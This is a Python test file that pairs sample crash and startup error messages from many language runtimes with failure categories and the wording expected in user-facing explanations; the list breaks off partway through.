from __future__ import annotations

import re
import string
from typing import Any

import pytest

from sidecar.core.exit_status import UNKNOWN, ExitStatus
from sidecar.observe import causes
from sidecar.observe.cause_table import ROWS, Row
from sidecar.observe.causes import guess
from sidecar.observe.fatal import find
from tests.unit.observe.test_causes_at_the_end import SAID as SAID_AT_THE_END

ABORT = ExitStatus(signal=6)
ONE = ExitStatus(code=1)
NOISE = "info: Microsoft.Hosting.Lifetime[14]\n      Now listening on: http://127.0.0.1:5005\nServer listening on port 5005\n"

# kind, how it ended, what it said, words of the sentence a user sees.
SAID = [
    ("port_in_use", ABORT, "Unhandled exception. System.IO.IOException: Failed to bind to address http://127.0.0.1:5005: address already in use.\n ---> Microsoft.AspNetCore.Connections.AddressInUseException: Address already in use\n ---> System.Net.Sockets.SocketException (98): Address already in use\n   at System.Net.Sockets.Socket.DoBind(EndPoint endPointSnapshot)\n", "Port 5005 is already in use"),
    ("port_in_use", ExitStatus(code=0xE0434352), "Unhandled exception. System.IO.IOException: Failed to bind\n ---> System.Net.Sockets.SocketException (10048): Es ist bereits belegt", "already in use"),
    ("port_in_use", ONE, "Error: listen EADDRINUSE: address already in use 127.0.0.1:3000\n    at Server.setupListenHandle [as _listen2] (node:net:1463:16)\n", "Port 3000"),
    ("port_in_use", ONE, "OSError: [Errno 98] error while attempting to bind", "already in use"),
    ("port_forbidden", ExitStatus(code=0xE0434352), "Unhandled exception. System.Net.Sockets.SocketException (10013): An attempt was made to access a socket in a way forbidden by its access permissions.", "reserved"),
    ("port_forbidden", ONE, "Error: listen EACCES: permission denied 127.0.0.1:80\n    at x (node:net:1:1)\n", "port 80"),
    ("port_localhost", ABORT, "Unhandled exception. System.InvalidOperationException: Dynamic port binding is not supported when binding to localhost. You must either bind to 127.0.0.1:0 or [::1]:0, or both.", "localhost:0"),
    ("runtime_missing", ExitStatus(code=150), "You must install or update .NET to run this application.\n\nApp: /opt/app/Aura.Api\nArchitecture: x64\nFramework: 'Microsoft.AspNetCore.App', version '8.0.0' (x64)\n.NET location: Not found\n", ".NET runtime"),
    ("runtime_missing", ExitStatus(code=131), "A fatal error occurred. The required library libhostfxr.so could not be found.", ".NET runtime"),
    ("icu_missing", ABORT, "Process terminated. Couldn't find a valid ICU package installed on the system. Please install libicu using your package manager", "libicu"),
    ("openssl_missing", ABORT, "No usable version of libssl was found", "OpenSSL"),
    ("library_missing", ExitStatus(code=127), "./api: error while loading shared libraries: libssl.so.1.1: cannot open shared object file: No such file or directory", "libssl.so.1.1"),
    ("library_missing", ABORT, "dyld[4242]: Library not loaded: @rpath/libx264.dylib\n  Referenced from: /x", "@rpath/libx264.dylib"),
    ("library_missing", ABORT, "Unhandled exception. System.DllNotFoundException: Unable to load shared library 'libgdiplus' or one of its dependencies.", "libgdiplus"),
    ("library_version", ONE, "./api: /lib/libc.so.6: version `GLIBC_2.38' not found (required by ./api)", "GLIBC_2.38"),
    ("wrong_architecture", ExitStatus(code=126), "/bin/sh: 1: ./api: Exec format error", "architecture"),
    ("command_missing", ExitStatus(code=127), "sh: 1: serverd: not found\n", "serverd"),
    ("command_missing", ExitStatus(code=127), "./start: line 3: serverd: command not found\n", "serverd"),
    ("command_missing", ExitStatus(code=127), "start.zsh:1: command not found: serverd\n", "serverd"),
    ("command_missing", ExitStatus(code=127), "/usr/bin/env: \u2018python3 -u\u2019: No such file or directory\n", "python3 -u"),
    ("command_missing", ExitStatus(code=127), "env: can't execute 'node': No such file or directory\n", "node"),
    ("command_missing", ExitStatus(code=127), "run.sh: line 3: /opt/x/serverd: command not found\n", "/opt/x/serverd"),
    ("not_executable", ExitStatus(code=127), "/app/run.sh: line 2: $'\\r': command not found\n", "Windows line ends"),
    ("not_executable", ONE, "run.sh: line 3: cd: $'data\\r': No such file or directory\n", "Windows line ends"),
    ("not_executable", ExitStatus(code=127), "/usr/bin/env: \u2018python3\\r\u2019: No such file or directory\n", "Windows line ends"),
    ("not_executable", ExitStatus(code=2), "run.sh: 2: set: Illegal option -\r\n", "Windows line ends"),
    ("not_executable", ExitStatus(code=127), "sh: 1: source: not found\nsh: 1: uvicorn: not found\n", "written for bash"),
    ("not_executable", ExitStatus(code=2), "run.sh: 2: set: Illegal option -o pipefail\n", "written for bash"),
    ("not_executable", ExitStatus(code=126), "Volta error: Node is not available.\n", "could not be executed; its last error: Volta error: Node is not available."),
    ("not_executable", ExitStatus(code=126), "/bin/sh: line 1: /usr/bin/node: Argument list too long\n", "its last output: /bin/sh: line 1: /usr/bin/node: Argument list too long."),
    ("killed", ONE, "api: npm error command failed\napi: npm error signal SIGKILL\napi: npm error command sh -c node s.js\n", "killed from outside"),
    ("killed", ONE, "\u2009ELIFECYCLE\u2009 Command failed with exit code 137.\n", "killed from outside"),
    ("not_executable", ExitStatus(code=126), "sh: 1: exec: ./serverd: Permission denied\n", "./serverd"),
    ("program_incomplete", ABORT, "Unhandled exception. System.IO.FileNotFoundException: Could not load file or assembly 'Serilog, Version=3.0.0.0, Culture=neutral'. The system cannot find the file specified.", "Serilog"),
    ("inside_asar", ONE, "node:internal/modules/cjs/loader:1\n  throw err;\nError: Cannot find module '/opt/My App/resources/app.asar/server.js'\n    at Module._resolve (node:internal:1:1)\n", "/opt/My App/resources/app.asar,"),
    ("inside_asar", ExitStatus(code=2), "/usr/bin/python3: can't open file '/opt/app.asar/backend.py': [Errno 20] Not a directory\n", "/opt/app.asar,"),
    ("program_incomplete", ONE, "Error: Cannot find module '/opt/app.asar.unpacked/server.js'\n", "missing: /opt/app.asar.unpacked/server.js"),
    ("program_incomplete", ONE, "node:internal/modules/cjs/loader:1\n  throw err;\nError: Cannot find module 'express'\nRequire stack:\n- /app/x.js\n    at Module._resolve (node:internal:1:1)\n", "express"),
    ("program_incomplete", ONE, "Traceback (most recent call last):\n  File \"/app/x.py\", line 1, in <module>\n    import flask\nModuleNotFoundError: No module named 'flask'\n", "flask"),
    ("working_folder", ExitStatus(code=3), "ERROR:    Error loading ASGI app. Could not import module \"app\".\n", "what its command names: app"),
    ("working_folder", ExitStatus(code=2), "Usage: flask run [OPTIONS]\n\nError: Could not locate a Flask application. Use the 'flask --app' option.\n", "Flask application"),
    ("working_folder", ExitStatus(code=254), "npm error enoent Could not read package.json: Error: ENOENT: no such file or directory, open '/x/package.json'\n", "package.json"),
    ("program_incomplete", ONE, "node:internal/modules/esm/resolve:857\nError [ERR_MODULE_NOT_FOUND]: Cannot find package 'express' imported from /app/x.mjs\n    at y (node:internal:1:1)\n", "missing: express"),
    ("program_incomplete", ONE, "/usr/bin/python3: No module named uvicorn\n", "missing: uvicorn"),
    ("program_incomplete", ExitStatus(code=2), "Can't locate Nope/Module.pm in @INC (you may need to install the Nope::Module module) (@INC contains: /etc/perl) at app.pl line 2.\nBEGIN failed--compilation aborted at app.pl line 2.\n", "missing: Nope::Module"),
    ("program_incomplete", ExitStatus(code=2), "Can't open perl script \"app.pl\": No such file or directory\n", "missing: app.pl"),
    ("program_incomplete", ONE, "<internal:/usr/lib/ruby/kernel_require.rb>:85:in `require': cannot load such file -- nope (LoadError)\n\tfrom app.rb:1:in `<main>'\n", "missing: nope"),
    ("program_incomplete", ExitStatus(code=7), "Could not find gem 'sinatra' in locally installed gems.\n", "missing: sinatra"),
    ("program_incomplete", ExitStatus(code=7), "Could not find rack-2.2.4 in any of the sources\nRun `bundle install` to install missing gems.\n", "missing: rack"),
    ("program_incomplete", ExitStatus(code=255), "PHP Fatal error:  Uncaught Error: Failed opening required '/app/vendor/autoload.php' (include_path='.') in /app/public/index.php on line 3\n", "missing: /app/vendor/autoload.php"),
    ("program_incomplete", ONE, "Could not open input file: artisan\n", "missing: artisan"),
    ("program_incomplete", ONE, "lua5.4: server.lua:1: module 'nope' not found:\n\tno field package.preload['nope']\n", "missing: nope"),
    ("program_incomplete", ONE, "lua5.4: cannot open nope.lua\n", "missing: nope.lua"),
    ("program_incomplete", ONE, "Error in library(plumber) : there is no package called \u2018plumber\u2019\nExecution halted\n", "missing: plumber"),
    ("program_incomplete", ExitStatus(code=2), "Fatal error: cannot open file 'nope.R': No such file or directory\n", "missing: nope.R"),
    ("program_incomplete", ONE, "** (Mix) The task \"phx.server\" could not be found\n", "missing: phx.server"),
    ("program_incomplete", ONE, "main.go:2:8: no required module provides package github.com/gin-gonic/gin; to add it:\n\tgo get github.com/gin-gonic/gin\n", "missing: github.com/gin-gonic/gin"),
    ("program_incomplete", ONE, "Error: Unable to access jarfile target/app.jar\n", "missing: target/app.jar"),
    ("program_incomplete", ONE, "error: file not found: Server.java\nUsage: java [options] <mainclass>\n", "missing: Server.java"),
    ("program_incomplete", ONE, "Unchecked dependencies for environment dev:\n* plug (Hex package)\n  the dependency is not available, run \"mix deps.get\"\n", "last output says which"),
    ("program_incomplete", ExitStatus(code=101), "error: no matching package named `axum` found\n", "missing: axum"),
    ("not_built", ONE, "Error: Could not find a production build in the '.next' directory. Try building your app with 'next build' before starting the production server.\n", "not built"),
    ("not_built", ONE, "Error: The directory \"dist\" does not exist. Did you build your project?\n", "not built"),
    ("not_built", ONE, "Error: Cannot find module '/app/dist/main.js'\n    at x (node:internal:1:1)\n", "not built"),
    ("file_in_use", ONE, "Error: EBUSY: resource busy or locked, open '/x/app.db'\n", "/x/app.db"),
    ("file_in_use", ExitStatus(code=126), "sh: 1: ./serverd: Text file busy\n", "./serverd"),
    ("runtime_version", ExitStatus(code=101), "error: package `axum v0.8.1` cannot be built because it requires rustc 1.78 or newer\n", "another version of rustc"),
    ("runtime_version", ONE, "You are using Node.js 18.20.2. For Next.js, Node.js version \">=20.9.0\" is required.\n", "another version of Node.js"),
    ("runtime_version", ONE, "You are using Node.js 18.20. Vite requires Node.js version 20.19+ or 22.12+. Please upgrade.\n", "another version of Node.js"),
    ("runtime_version", ONE, "Node.js v18.20.2 is not supported by Astro!\nPlease upgrade Node.js to a supported version: \">=22.12.0\"\n", "another version of Node.js"),
    ("runtime_version", ExitStatus(code=18), "Your Ruby version is 3.1.2, but your Gemfile specified 3.3.0\n", "another version of Ruby"),
    ("runtime_version", ExitStatus(code=104), "Your Composer dependencies require a PHP version \">= 8.3.0\". You are running 8.2.36.\n", "another version of PHP"),
    ("runtime_version", ExitStatus(code=255), "Perl v5.40.0 required--this is only v5.36.0, stopped at app.pl line 1.\n", "another version of Perl"),
    ("runtime_version", ONE, "go: go.mod requires go >= 1.24 (running go 1.19.8; GOTOOLCHAIN=local)\n", "another version of go"),
    ("runtime_version", ONE, "FATAL:  database files are incompatible with server\nDETAIL:  The data directory was initialized by PostgreSQL version 12, which is not compatible with this version 15.18.\n", "another version of PostgreSQL"),
    ("source_error", ONE, "  File \"/app/app.py\", line 3\n    x = (\n        ^\nSyntaxError: '(' was never closed\n", "error in \"/app/app.py\", line 3."),
    ("exception", ONE, "/app/x.js:3\nfoo(\n^\n\nSyntaxError: missing ) after argument list\n    at wrapSafe (node:internal/modules/cjs/loader:1378:20)\n\nNode.js v20.20.2\n", "missing ) after argument list, at /app/x.js:3."),
    ("source_error", ExitStatus(code=255), "syntax error at app.pl line 5, near \"}\"\nExecution of app.pl aborted due to compilation errors.\n", "error in app.pl line 5"),
    ("source_error", ExitStatus(code=255), "PHP Parse error:  syntax error, unexpected end of file in /app/index.php on line 3\n", "error in /app/index.php on line 3"),
    ("source_error", ONE, "app.rb:3: syntax error, unexpected end-of-input\ndef (\n", "error in app.rb:3"),
    ("source_error", ExitStatus(code=2), "./run.sh: line 4: syntax error near unexpected token `fi'\n", "error in ./run.sh: line 4"),
    ("source_error", ONE, "lua5.4: server.lua:1: unexpected symbol near <eof>\n", "error in server.lua:1"),
    ("source_error", ONE, "# x\n./main.go:4:83: undefined: fmt.Nope\n", "error in ./main.go:4"),
    ("source_error", ONE, "Server.java:12: error: class, interface, enum, or record expected\n}}\n^\n1 error\nerror: compilation failed\n", "error in Server.java:12"),
    ("source_error", ExitStatus(code=101), "error[E0599]: no method named `unwrapp` found for enum `Result`\n --> src/main.rs:3:53\n  |\nerror: could not compile `x`\n", "error in src/main.rs:3"),
    ("source_error", ONE, "Traceback (most recent call last):\n  File \"/lib/granian/_internal.py\", line 47, in load_module\n    __import__(name)\n  File \"/app/app.py\", line 1\n    def app(:\n            ^\nSyntaxError: invalid syntax\n", "error in \"/app/app.py\", line 1."),
    ("source_error", ExitStatus(code=2), "File \"server.ml\", line 1, characters 5-5:\nError: Syntax error\n", "error in \"server.ml\", line 1."),
    ("source_error", ONE, "** (TokenMissingError) token missing on server.exs:5:4:\n    error: missing terminator: end\n", "error in server.exs:5"),
    ("variable_missing", ONE, "Traceback (most recent call last):\n  File \"/app/a.py\", line 1, in <module>\n    os.environ[\"DATABASE_URL\"]\n  File \"<frozen os>\", line 679, in __getitem__\nKeyError: 'DATABASE_URL'\n", "variable DATABASE_URL"),
    ("variable_missing", ONE, "./run.sh: line 3: NOPE: unbound variable\n", "variable NOPE"),
    ("variable_missing", ExitStatus(code=2), "run.sh: 2: DATABASE_URL: parameter not set or null\n", "variable DATABASE_URL"),
    ("variable_missing", ONE, "./run.sh: line 2: DATABASE_URL: must be set\n", "variable DATABASE_URL"),
    ("variable_missing", ONE, "Error: Missing required environment variable: API_KEY\n    at x (/app/y.js:1:1)\n", "variable API_KEY"),
    ("variable_missing", ONE, "** (RuntimeError) environment variable DATABASE_URL is missing.\n", "variable DATABASE_URL"),
    ("variable_missing", ONE, "** (System.EnvError) could not fetch environment variable \"SECRET_KEY_BASE\" because it is not set\n", "variable SECRET_KEY_BASE"),
    ("variable_missing", ONE, "Neither general_settings.master_key nor the PROXY_MASTER_KEY environment variable is set.\n", "variable PROXY_MASTER_KEY"),
    ("variable_missing", ONE, "2026/11/27 17:00:00 DATABASE_URL is not set\n", "variable DATABASE_URL"),
    ("variable_missing", ONE, "django.core.exceptions.ImproperlyConfigured: The SECRET_KEY setting must not be empty.\n", "variable SECRET_KEY"),
    ("variable_missing", ONE, "pydantic_core._pydantic_core.ValidationError: 1 validation error for Settings\ndatabase_url\n  Field required [type=missing, input_value={}, input_type=dict]\n", "variable database_url"),
    ("command_missing", ONE, "Command not found: serverd\n", "program serverd"),
    ("command_missing", ExitStatus(code=2), "error: Failed to spawn: `serverd`\n  Caused by: No such file or directory (os error 2)\n", "program serverd"),
    ("command_missing", ONE, "[PdmUsageError]: Command 'serverd' is not found in your PATH.\n", "program serverd"),
    ("command_missing", ONE, 'error Command "serverd" not found.\n', "program serverd"),
    ("command_missing", ONE, 'npm error npx canceled due to missing packages and no YES option: ["serverd@1.0.0"]\n', "program serverd"),
    ("command_missing", ExitStatus(code=127), "17:25:25 web.1  | /bin/sh: 1: serverd: not found\n", "program serverd"),
    ("script_missing", ONE, 'npm error Missing script: "dev"\n', "task named dev."),
    ("script_missing", ONE, "Task not found: dev\n", "task named dev."),
    ("script_missing", ONE, 'error: Script not found "dev"\n', "task named dev."),
    ("program_incomplete", ONE, "web.1 | Traceback (most recent call last):\nweb.1 |   File \"/app/x.py\", line 1, in <module>\nweb.1 | ModuleNotFoundError: No module named 'flask'\n", "missing: flask"),
    ("file_missing", ONE, "./run.sh: line 3: .venv/bin/activate: No such file or directory\n", ".venv/bin/activate"),
    ("file_missing", ExitStatus(code=2), "./run.sh: 3: .: cannot open .venv/bin/activate: No such file\n", ".venv/bin/activate"),
    ("file_missing", ExitStatus(code=9), "node: .env: not found\n", ".env"),
    ("port_in_use", ExitStatus(code=70), "cherrypy.process.wspbus.ChannelFailures: Timeout('Port 8080 not free on 127.0.0.1.')\n", "Port 8080"),
    ("working_folder", ONE, "Traceback (most recent call last):\n  File \"/lib/granian/_internal.py\", line 54, in load_module\n    raise e\nRuntimeError: Could not import 'gone'.\n", "names: gone"),
    ("working_folder", ONE, "Traceback (most recent call last):\n  File \"/lib/hypercorn/utils.py\", line 108, in load_application\n    raise NoAppError(f\"Cannot load application from '{path}', application not found.\")\nhypercorn.utils.NoAppError: Cannot load application from 'asgi:gone', application not found.\n", "names: asgi:gone"),
    ("working_folder", ONE, "** (Mix) Cannot execute \"mix run\" without a Mix.Project, please ensure you are in a directory with a mix.exs file\n", "names: Mix.Project"),
    ("program_incomplete", ONE, "There was an exception (ImportError) importing your module.\n\nIt had these arguments: \n1. No module named 'flask'\n", "missing: flask"),
    ("program_incomplete", ONE, "init terminating in do_boot ({undef,[{server,start,[],[]},{init,start_em,1,[]}]})\n\nCrash dump is being written to: erl_crash.dump...done\n", "missing: server"),
    ("variable_missing", ONE, "app.rb:1:in `fetch': key not found: \"API_KEY\" (KeyError)\n\tfrom app.rb:1:in `<main>'\n", "variable API_KEY"),
    ("another_instance", ONE, "=> Booting Puma\nA server is already running. Check /app/tmp/pids/server.pid.\nExiting\n", "Another copy of the backend is running"),
    ("killed", ONE, "[api] npm run api exited with code 137\n--> Sending SIGTERM to other processes..\n[web] npm run web exited with code SIGTERM\n", "program was killed from outside"),
    ("killed", ONE, " ERROR  The command node server/index.mjs was killed by the signal SIGKILL\n", "program was killed from outside"),
    ("working_folder", ONE, "configuration /app/config.ru not found\n", "names: config.ru"),
    ("working_folder", ExitStatus(code=101), "error: could not find `Cargo.toml` in `/app` or any parent directory\n", "names: Cargo.toml"),
    ("working_folder", ExitStatus(code=10), "Could not locate Gemfile or .bundle/ directory\n", "names: Gemfile"),
    ("working_folder", ONE, "go: go.mod file not found in current directory or any parent directory; see 'go help modules'\n", "names: go.mod"),
    ("working_folder", ExitStatus(code=2), "make: *** No rule to make target 'runn'.  Stop.\n", "names: runn"),
    ("working_folder", ONE, "Error: Config file 'mkdocs.yml' does not exist.\n", "names: mkdocs.yml"),
    ("ffmpeg_missing", ONE, "FFmpeg was not found. Aura cannot run without it.", "FFmpeg"),
    ("ffmpeg_missing", ONE, "FFmpeg binaries not found", "FFmpeg"),
    ("ffmpeg_missing", ABORT, "Unhandled exception. System.ComponentModel.Win32Exception (2): An error occurred trying to start process 'ffmpeg' with working directory '/x'. No such file or directory", "FFmpeg"),
    ("killed", ONE, "signal: killed\n", "program was killed from outside"),
    ("disk_full", ABORT, "Unhandled exception. System.IO.IOException: No space left on device : '/data/x.db'", "disk is full"),
    ("disk_full", ExitStatus(code=0xE0434352), "Unhandled exception. System.IO.IOException: There is not enough space on the disk. : 'C:\\x'", "disk is full"),
    ("disk_full", ABORT, "Unhandled exception. Microsoft.Data.Sqlite.SqliteException (0x80004005): SQLite Error 13: 'database or disk is full'.", "disk is full"),
    ("memory", ABORT, "Unhandled exception. System.OutOfMemoryException: Array dimensions exceeded supported range.", "memory"),
    ("memory", ABORT, "Out of memory.\n", "memory"),
    ("memory", ExitStatus(code=137), "GC heap initialization failed with error 0x8007000E\nFailed to create CoreCLR, HRESULT: 0x8007000E", "memory"),
    ("memory", ABORT, "FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory", "memory"),
    ("open_files", ABORT, "Unhandled exception. System.IO.IOException: Too many open files", "too many files"),
    ("inotify", ABORT, "Unhandled exception. System.IO.IOException: The configured user limit (128) on the number of inotify instances has been reached", "inotify"),
    ("database_locked", ABORT, "Unhandled exception. Microsoft.Data.Sqlite.SqliteException (0x80004005): SQLite Error 5: 'database is locked'.\n   at Microsoft.Data.Sqlite.SqliteCommand.ExecuteReader()", "locked"),
    ("database_damaged", ABORT, "Unhandled exception. Microsoft.Data.Sqlite.SqliteException (0x80004005): SQLite Error 26: 'file is not a database'.", "damaged"),
    ("file_in_use", ExitStatus(code=0xE0434352), "Unhandled exception. System.IO.IOException: The process cannot access the file 'C:\\x\\aura.log' because it is being used by another process.", "C:\\x\\aura.log"),
    ("read_only", ABORT, "Unhandled exception. System.IO.IOException: Read-only file system : '/data'", "read-only"),
    ("data_folder", ABORT, "Unhandled exception. System.IO.DirectoryNotFoundException: Could not find a part of the path '/no/such'.", "/no/such"),
    ("data_folder", ABORT, "Unhandled exception. System.IO.IOException: The file '/data' already exists.\n", "/data"),
    ("data_folder", ONE, "run: create server: mkdir all: mkdir /srv/x/y: no such file or directory\n", "not exist: /srv/x/y."),
    ("data_folder", ONE, "mkdir: cannot create directory '/srv/x/y z': No such file or directory\n", "not exist: /srv/x/y z."),
    ("data_folder", ExitStatus(code=2), "/app/run.sh: 3: cannot create /srv/x/log: Directory nonexistent\n", "not exist: /srv/x/log."),
    ("permission", ONE, "2026/11/29 00:00:00 mkdir /var/lib/app: permission denied\n", "read or write /var/lib/app."),
    ("permission", ONE, "[10:00:00] [CRITICAL] An exception occurred during server startup: [Errno 13] Permission denied: '/var/lib/app'\n", "read or write /var/lib/app."),
    ("permission", ONE, "touch: cannot touch '/opt/app/x y': Permission denied\n", "read or write /opt/app/x y."),
    ("permission", ABORT, "Unhandled exception. System.UnauthorizedAccessException: Access to the path '/proc/aura' is denied.\n ---> System.IO.IOException: Permission denied", "/proc/aura"),
    ("configuration", ABORT, "Unhandled exception. System.IO.InvalidDataException: Failed to load configuration from file '/app/appsettings.json'.\n ---> System.FormatException: Could not parse the JSON file.", "/app/appsettings.json"),
    ("exception", ABORT, "Unhandled exception. System.InvalidOperationException: TROUBLE: background worker failed\n   at System.Threading.X.Y()\n   at TestBackend.Trouble.Crash(String kind) in /src/Trouble.cs:line 37\n", "System.InvalidOperationException: TROUBLE: background worker failed, at TestBackend.Trouble.Crash(String kind) in /src/Trouble.cs:line 37."),
    ("failfast", ABORT, "Process terminated.\nTROUBLE: state corrupted\n   at System.Environment.FailFast(System.String)\n   at TestBackend.Trouble.Crash(System.String)\n", "FailFast): TROUBLE: state corrupted, at TestBackend.Trouble.Crash(System.String)."),
    ("overflow", ABORT, "Stack overflow.\nRepeated 261962 times:\n--------------------------------\n   at TestBackend.Trouble.Overflow(Int32)\n--------------------------------\n", "stack overflow: Repeated 261962 times, at TestBackend.Trouble.Overflow(Int32)."),
    ("exception", ONE, "Traceback (most recent call last):\n  File \"/app/a.py\", line 1, in <module>\n    main()\n  File \"/app/b.py\", line 7, in main\n    1 / 0\nZeroDivisionError: division by zero\n", "ZeroDivisionError: division by zero, at /app/b.py:7 in main."),
    ("exception", ONE, "/app/x.js:3\n  y.z()\n    ^\n\nTypeError: y.z is not a function\n    at run (/app/x.js:3:5)\n    at node:internal/main:1:1\n\nNode.js v20.1.0\n", "TypeError: y.z is not a function, at run (/app/x.js:3:5)."),
    ("exception", ONE, "Exception in thread \"main\" java.lang.IllegalStateException: no config\n\tat java.base/x.Y.z(Y.java:1)\n\tat app.Main.main(Main.java:5)\n", "java.lang.IllegalStateException: no config"),
    ("exception", ExitStatus(code=2), "panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.main()\n\t/x/main.go:8 +0x1d\n", "index out of range [3] with length 3, at main.main()."),
    ("exception", ExitStatus(code=101), "thread 'main' panicked at src/main.rs:2:5:\nno config\nnote: run with `RUST_BACKTRACE=1`", "no config, at src/main.rs:2:5."),
    ("working_folder", ExitStatus(code=4294963238), "'\\\\nas\\app'\r\nCMD.EXE wurde mit dem oben angegebenen Pfad als aktuellem Verzeichnis gestartet.\r\nUNC-Pfade werden nicht unterstützt.\r\nStattdessen wird das Windows-Verzeichnis verwendet.\r\nnpm ERR! enoent ENOENT: no such file or directory, open 'C:\\Windows\\package.json'\r\n", "cannot use a network folder"),
    ("not_executable", ONE, "& : Die Datei \"C:\\app\\start.ps1\" kann nicht geladen werden, da die Ausf\ufffdhrung von Skripts auf diesem \r\nSystem deaktiviert ist.\r\n    + CategoryInfo          : Sicherheitsfehler: (:) [], PSSecurityException\r\n    + FullyQualifiedErrorId : UnauthorizedAccess\r\n", "execution policy"),
    ("command_missing", ExitStatus(code=9009), "Python was not found; run without arguments to install from the Microsoft Store, or disable this shortcut from Settings.\n", "placeholder"),
    ("exception", ABORT, "terminate called after throwing an instance of 'std::runtime_error'\n  what():  no config\n", "std::runtime_error: no config."),
    ("not_mappable", ExitStatus(code=255), "[PYI-4242:ERROR] Failed to load Python shared library '/tmp/_MEIabc/libpython3.11.so.1.0': dlopen: /tmp/_MEIabc/libpython3.11.so.1.0: failed to map segment from shared object\n", "libpython3.11.so.1.0"),
    ("not_mappable", ExitStatus(code=127), "/tmp/x: error while loading shared libraries: libz.so.1: failed to map segment from shared object: Operation not permitted\n", "libz.so.1"),
    ("library_missing", ONE, "Traceback (most recent call last):\n  File \"main.py\", line 1, in <module>\n    import cv2\nImportError: libGL.so.1: cannot open shared object file: No such file or directory\n", "libGL.so.1"),
    ("library_missing", ONE, "Traceback (most recent call last):\n  File \"main.py\", line 1, in <module>\n    import torch\nImportError: DLL load failed while importing _C: The specified module could not be found.\n", "_C"),
    ("library_missing", ONE, "OSError: [WinError 126] The specified module could not be found. Error loading \"C:\\x\\torch\\lib\\c10.dll\" or one of its dependencies.\n", "c10.dll"),
    ("library_missing", ONE, "Exception in thread \"main\" java.lang.UnsatisfiedLinkError: no opencv_java in java.library.path: /usr/lib\n\tat java.base/java.lang.ClassLoader.loadLibrary(ClassLoader.java:2458)\n", "opencv_java"),
    ("wrong_architecture", ONE, "Error: /app/node_modules/x.node: invalid ELF header\n    at Module._extensions..node (node:internal/modules/cjs/loader:1259:18) {\n  code: 'ERR_DLOPEN_FAILED'\n}\n", "architecture"),
    ("native_module", ONE, "Error: The module '/app/node_modules/better-sqlite3/build/Release/better_sqlite3.node'\nwas compiled against a different Node.js version using\nNODE_MODULE_VERSION 115. This version of Node.js requires\nNODE_MODULE_VERSION 121. Please try re-compiling or re-installing\nthe module (for instance, using `npm rebuild` or `npm install`).\n    at process.func [as dlopen] (node:electron/js2c/asar_bundle:2:1822)\n    at Module._extensions..node (node:internal/modules/cjs/loader:1259:18) {\n  code: 'ERR_DLOPEN_FAILED'\n}\n\nNode.js v20.20.2\n", "better_sqlite3.node was built for another version"),
    ("runtime_missing", ONE, "The operation couldn\u2019t be completed. Unable to locate a Java Runtime.\nPlease visit http://www.java.com for information on installing Java.\n", "Java"),
    ("runtime_missing", ONE, "ERROR: JAVA_HOME is not set and no 'java' command could be found in your PATH.\n", "Java"),
    ("bundle_unusable", ExitStatus(code=255), "[PYI-31:ERROR] Could not create temporary directory!\n", "unpack itself"),
    ("bundle_unusable", ExitStatus(code=255), "[PYI-31:ERROR] Failed to extract numpy/core.so: decompression resulted in return code -1!\n", "unpack itself"),
    ("python_home", ONE, "Fatal Python error: init_fs_encoding: failed to get the Python codec of the filesystem encoding\nPython runtime state: core initialized\nModuleNotFoundError: No module named 'encodings'\n\nCurrent thread 0x1 (most recent call first):\n  <no Python frame>\n", "standard library"),
    ("program_incomplete", ONE, "Error: Unable to access jarfile app.jar\n", "app.jar"),
    ("program_incomplete", ONE, "<internal:/usr/lib/ruby>:85:in `require': cannot load such file -- sinatra (LoadError)\n\tfrom app.rb:1:in `<main>'\n", "sinatra"),
    ("program_incomplete", ExitStatus(code=7), "Could not find gem 'puma' in locally installed gems.\nRun `bundle install` to install missing gems.\n", "puma"),
    ("program_incomplete", ExitStatus(code=255), "PHP Fatal error:  Uncaught Error: Failed opening required 'vendor/autoload.php' (include_path='.:/usr/share/php') in /app/index.php:3\n", "vendor/autoload.php"),
    ("program_incomplete", ExitStatus(code=2), "Can't locate Mojolicious/Lite.pm in @INC (you may need to install the Mojolicious::Lite module) (@INC entries checked: /etc/perl) at app.pl line 1.\nBEGIN failed--compilation aborted at app.pl line 1.\n", "Mojolicious::Lite"),
    ("inotify", ONE, "Error: ENOSPC: System limit for number of file watchers reached, watch '/app'\n    at FSWatcher.<computed> (node:internal/fs/watchers:247:19)\n\nNode.js v20\n", "inotify"),
    ("inotify", ONE, "Error: EMFILE: too many open files, watch '/app'\n    at FSWatcher (node:internal)\n", "inotify"),
    ("gpu_memory", ONE, "RuntimeError: CUDA out of memory. Tried to allocate 20.00 MiB (GPU 0; 8.00 GiB total capacity)\n", "graphics card"),
    ("threads", ONE, "RuntimeError: can't start new thread\n", "processes and threads"),
    ("threads", ONE, "java.lang.OutOfMemoryError: unable to create native thread: possibly out of memory or process/resource limits reached\n", "processes and threads"),
    ("memory", ONE, "Error occurred during initialization of VM\nCould not reserve enough space for 4194304KB object heap\n", "memory"),
    ("memory", ABORT, "memory allocation of 1099511627776 bytes failed\n", "memory"),
    ("memory", ExitStatus(code=255), "PHP Fatal error:  Allowed memory size of 134217728 bytes exhausted (tried to allocate 262144 bytes) in /app/x.php on line 3\n", "memory"),
    ("memory", ONE, "[FATAL] failed to allocate memory\n", "memory"),
    ("runtime_unusable", ExitStatus(code=137), "Failed to create CoreCLR, HRESULT: 0x80004005\n", "could not start"),
    ("database_read_only", ONE, "sqlite3.OperationalError: attempt to write a readonly database\n", "read-only"),
    ("another_instance", ONE, "[start] WARNING: Failed to acquire lock: is another Syncthing instance already running?\n", "Another copy"),
    ("inotify", ONE, "OSError: [Errno 28] inotify watch limit reached\n", "inotify"),
    ("inotify", ONE, "_rust_notify.WatchfilesRustInternalError: error in underlying watcher: OS file watch limit reached. about [\"/app\"]\n", "inotify"),
    ("file_missing", ONE, "FileNotFoundError: [Errno 2] No such file or directory: 'C:\\\\Temp\\\\_MEI12342\\\\base_library.zip'\n", "The file base_library.zip, which"),
    ("file_missing", ONE, "FileNotFoundError: [Errno 2] No such file or directory: '/tmp/_MEIo3RyJh/assets/config.json'\n", "The file assets/config.json, which"),
    ("variable_missing", ONE, "Unhandled exception: Missing ENV key: \"DATABASE_URL\" (KeyError)\n  from /usr/lib/crystal/env.cr:67:7 in 'fetch'\n", "variable DATABASE_URL"),
    ("program_incomplete", ONE, "Execution error (FileNotFoundException) at user/eval1 (REPL:1).\nCould not locate gone/db__init.class, gone/db.clj or gone/db.cljc on classpath.\n", "missing: gone/db."),
    ("another_instance", ONE, "[error] Another instance is already running (pid 1234)\n", "Another copy"),
